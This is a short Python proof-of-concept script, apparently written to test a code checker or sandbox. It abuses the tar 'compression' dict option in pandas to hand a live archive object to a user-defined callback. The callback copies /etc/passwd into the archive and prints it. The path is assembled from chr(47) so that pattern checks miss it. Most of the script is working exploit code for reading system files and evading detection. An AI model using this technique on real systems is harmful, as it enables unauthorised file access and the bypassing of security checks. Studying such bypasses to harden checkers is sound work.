# source: pandas io/common.py get_handle tar branch (compression dict kwargs -> tarfile.TarFile.open(**kwargs), compression_args.setdefault("mode")); CPython tarfile TarFile(tarinfo=...) calls tarinfo.fromtarfile(self)
# family: compression dict as a code/location channel: {"method": "tar", "mode": "a", "tarinfo": Cls} hands a live tarfile.TarFile (append mode) to a script callback
# goal: TarFile.add() opens /etc/passwd (runtime path, no sink name known to the check) and copies it into a relative file; read back -> prints /etc/passwd
import pandas as pd

pd.DataFrame({"a": [1]}).to_csv("x.tar", compression="tar")
P = chr(47) + "etc" + chr(47) + "passwd"


class TI:
    @classmethod
    def fromtarfile(cls, tf):
        print("callback got", tf)
        tf.add(P, arcname="p")
        raise ValueError("stop")

    def isreg(self):
        return True

    def isdir(self):
        return False

    def tobuf(self, fmt, enc, err):
        return b""


try:
    pd.read_csv("x.tar", compression={"method": "tar", "mode": "a", "tarinfo": TI})
except ValueError as e:
    print("read_csv raised", e)
out = pd.read_csv("x.tar", compression=None, sep="\x01", header=None, nrows=20, encoding="latin1")
print(out.to_string())
